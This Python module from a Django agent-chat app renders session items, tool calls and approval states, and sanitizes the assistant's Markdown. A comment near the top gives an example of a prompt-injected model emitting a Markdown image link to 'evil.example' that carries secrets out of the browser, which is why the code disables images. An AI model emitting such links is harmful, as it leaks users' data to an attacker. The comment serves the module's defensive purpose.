"""How a conversation is shown: session items as chat entries, the latest run as a live block,
and assistant Markdown made safe.

The session (what the SDK stored) and the run rows are the truth; this module only reads them.
The chat page, its history fragment and the websocket consumer all build what they show here,
so a pushed fragment is exactly what a reload would render.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Any

import nh3
from django.utils.safestring import SafeString, mark_safe
from markdown_it import MarkdownIt

from approvals.models import AgentRun, ApprovalRequest, RunStatus
from conversations.models import Conversation

# --- Markdown ---------------------------------------------------------------------------------

# Raw HTML in the source is shown as text (html=False), never passed through. Images are off:
# a model that was fed a hostile page could otherwise make the browser fetch
# `![](https://evil.example/?q=<secrets>)` without a click.
_markdown = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
_markdown.enable(["table", "strikethrough"])
_markdown.disable("image")

# What survives the sanitizer: text structure, no styling hooks (no class, id or style, so
# a reply cannot dress itself up as the site's own status lines), no media, no forms.
ALLOWED_TAGS = {
    "a", "p", "br", "hr", "strong", "em", "b", "i", "s", "del", "code", "pre", "blockquote",
    "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}, "th": {"style"}, "td": {"style"}}
LINK_REL = "noopener noreferrer nofollow"


def render_markdown(text: str) -> SafeString:
    """Assistant Markdown as sanitized HTML, safe to put in a page as is."""
    html = _markdown.render(text or "")
    cleaned = nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        url_schemes={"http", "https", "mailto"},
        link_rel=LINK_REL,
        set_tag_attribute_values={"a": {"target": "_blank"}},
        # markdown-it aligns table columns with inline styles; nothing else is kept.
        filter_style_properties={"text-align"},
        strip_comments=True,
    )
    return mark_safe(cleaned)  # sanitized by nh3 just above


# --- Session items as chat entries ----------------------------------------------------------

TOOL_OUTPUT_PREVIEW = 160
# A page shows the newest items of a conversation; the agent sees what its own settings say.
HISTORY_ITEMS_SHOWN = 400


@dataclass
class Entry:
    """One thing shown in the chat: a message, or a compact note about a tool call."""

    kind: str  # "user" | "assistant" | "tool" | "handoff"
    text: str = ""
    html: SafeString | None = None
    output: str = ""
    pending: bool = False


def is_user_message(item: Any) -> bool:
    return (
        isinstance(item, dict)
        and item.get("role") == "user"
        and item.get("type", "message") == "message"
    )


def _content_text(content: Any) -> str:
    if isinstance(content, str):
        return content
    if isinstance(content, list):
        parts = []
        for part in content:
            if isinstance(part, dict):
                value = part.get("text", part.get("refusal", ""))
                if isinstance(value, str):
                    parts.append(value)
            elif isinstance(part, str):
                parts.append(part)
        return "".join(parts)
    return ""


def user_text(item: Any) -> str:
    return _content_text(item.get("content")) if isinstance(item, dict) else ""


def _parse_arguments(raw: Any) -> Any:
    if isinstance(raw, str):
        try:
            return json.loads(raw) if raw.strip() else {}
        except ValueError:
            return raw
    return raw


def call_display(name: str, arguments: Any) -> str:
    """`lookup_order(order_id=7)`, written exactly as a reviewer sees a call."""
    return ApprovalRequest(tool_name=name, arguments=_parse_arguments(arguments)).call_display()


def _preview(text: str, limit: int = TOOL_OUTPUT_PREVIEW) -> str:
    flat = " ".join(text.split())
    return flat if len(flat) <= limit else flat[: limit - 1].rstrip() + "…"


def _handoff_target(output: str) -> str | None:
    # The SDK answers a handoff call with {"assistant": "<agent name>"}.
    try:
        parsed = json.loads(output)
    except ValueError:
        return None
    if isinstance(parsed, dict) and list(parsed) == ["assistant"]:
        return str(parsed["assistant"])
    return None


def entries_for(items: Sequence[Any]) -> list[Entry]:
    """Chat entries for session items, oldest first.

    A tool call and its output become one note; items people don't read (reasoning, system
    messages, orphaned outputs) are left out.
    """
    outputs: dict[str, str] = {}
    for item in items:
        if isinstance(item, dict) and item.get("type") == "function_call_output":
            outputs[str(item.get("call_id"))] = _content_text(item.get("output"))
    entries: list[Entry] = []
    for item in items:
        if not isinstance(item, dict):
            continue
        if is_user_message(item):
            entries.append(Entry("user", text=user_text(item)))
        elif item.get("role") == "assistant" and item.get("type", "message") == "message":
            text = _content_text(item.get("content"))
            if text.strip():
                entries.append(Entry("assistant", text=text, html=render_markdown(text)))
        elif item.get("type") == "function_call":
            name = str(item.get("name") or "tool")
            output = outputs.get(str(item.get("call_id")))
            target = _handoff_target(output) if output is not None else None
            if target is not None:
                entries.append(Entry("handoff", text=target))
                continue
            entries.append(
                Entry(
                    "tool",
                    text=call_display(name, item.get("arguments")),
                    output=_preview(output) if output is not None else "",
                    pending=output is None,
                )
            )
    return entries


# --- The latest run -------------------------------------------------------------------------


@dataclass
class Decided:
    call: str
    status: str
    by: str


@dataclass
class RunView:
    """The latest run, as the block `#run-<pk>`: its user message, what it did, its status."""

    run: AgentRun
    user_text: str
    entries: list[Entry]
    waiting_for: list[str] = field(default_factory=list)
    decided: list[Decided] = field(default_factory=list)

    @property
    def is_active(self) -> bool:
        return self.run.is_busy

    @property
    def is_streaming(self) -> bool:
        return self.run.is_active

    @property
    def reply_html(self) -> SafeString | None:
        """The final reply, when the session does not hold it (it normally does)."""
        if self.run.status != RunStatus.COMPLETED or not self.run.final_output:
            return None
        if any(entry.kind == "assistant" for entry in self.entries):
            return None
        return render_markdown(self.run.final_output)


@dataclass
class History:
    conversation: Conversation
    entries: list[Entry]
    run: RunView | None
    latest_run_pk: int
    unreadable: int = 0
    truncated: bool = False

    @property
    def is_empty(self) -> bool:
        return not self.entries and self.run is None


@dataclass
class LoadedRun:
    """A run, with the approval requests of its latest pause."""

    run: AgentRun
    requests: list[ApprovalRequest]


def latest_run(conversation: Conversation) -> LoadedRun | None:
    """The conversation's newest run (two queries at most)."""
    run = AgentRun.objects.filter(conversation=conversation).order_by("-created", "-pk").first()
    return _load(run)


def run_for_event(conversation: Conversation, run_id: int) -> LoadedRun | None:
    return _load(AgentRun.objects.filter(conversation=conversation, pk=run_id).first())


def previous_run_pk(run: AgentRun) -> int:
    earlier = (
        AgentRun.objects.filter(conversation_id=run.conversation_id, pk__lt=run.pk)
        .order_by("-pk")
        .values_list("pk", flat=True)
        .first()
    )
    return earlier or 0


def _load(run: AgentRun | None) -> LoadedRun | None:
    if run is None:
        return None
    requests: list[ApprovalRequest] = []
    if run.pause_count:
        requests = list(
            ApprovalRequest.objects.of_pause(run, run.pause_count)
            .select_related("decided_by")
            .order_by("pk")
        )
    return LoadedRun(run, requests)


def _split(items: Sequence[Any], run: AgentRun) -> int | None:
    """Where the run's turn starts in the items: its user message, the last one."""
    for index in range(len(items) - 1, -1, -1):
        if is_user_message(items[index]):
            return index if user_text(items[index]).strip() == run.input.strip() else None
    return None


def run_view(
    conversation: Conversation, items: Sequence[Any], loaded: LoadedRun | None
) -> tuple[list[Any], RunView | None]:
    """Split the items into earlier history and the latest run's block (if it shows one)."""
    if loaded is None:
        return list(items), None
    run = loaded.run
    run.conversation = conversation  # the block links to it; spares a query
    start = None if run.status == RunStatus.QUEUED else _split(items, run)
    if start is not None:
        before, turn = list(items[:start]), list(items[start + 1 :])
    else:
        # The run's user message is not in the session: not stored yet (queued, just
        # claimed, failed before it started) or gone (undone, cleared).
        before, turn = list(items), []
        shown = not run.is_finished or (
            run.status == RunStatus.FAILED
            and run.finished is not None
            and run.finished >= conversation.updated
        )
        if not shown:
            return before, None
    entries = entries_for(turn)
    if run.status == RunStatus.WAITING:
        # The status line names the calls that wait; no note of them twice.
        entries = [entry for entry in entries if not (entry.kind == "tool" and entry.pending)]
    view = RunView(run=run, user_text=run.input, entries=entries)
    if run.status in (RunStatus.WAITING, RunStatus.RESUMING):
        for request in loaded.requests:
            if request.is_pending:
                view.waiting_for.append(request.call_display())
            elif request.is_decided:
                view.decided.append(
                    Decided(
                        call=request.call_display(),
                        status=request.status,
                        by=request.decided_by.get_username() if request.decided_by else "",
                    )
                )
    return before, view


def build_history(
    conversation: Conversation,
    items: Sequence[Any],
    loaded: LoadedRun | None,
    unreadable: int = 0,
) -> History:
    before, view = run_view(conversation, items, loaded)
    return History(
        conversation=conversation,
        entries=entries_for(before),
        run=view,
        latest_run_pk=loaded.run.pk if loaded is not None else 0,
        unreadable=unreadable,
    )
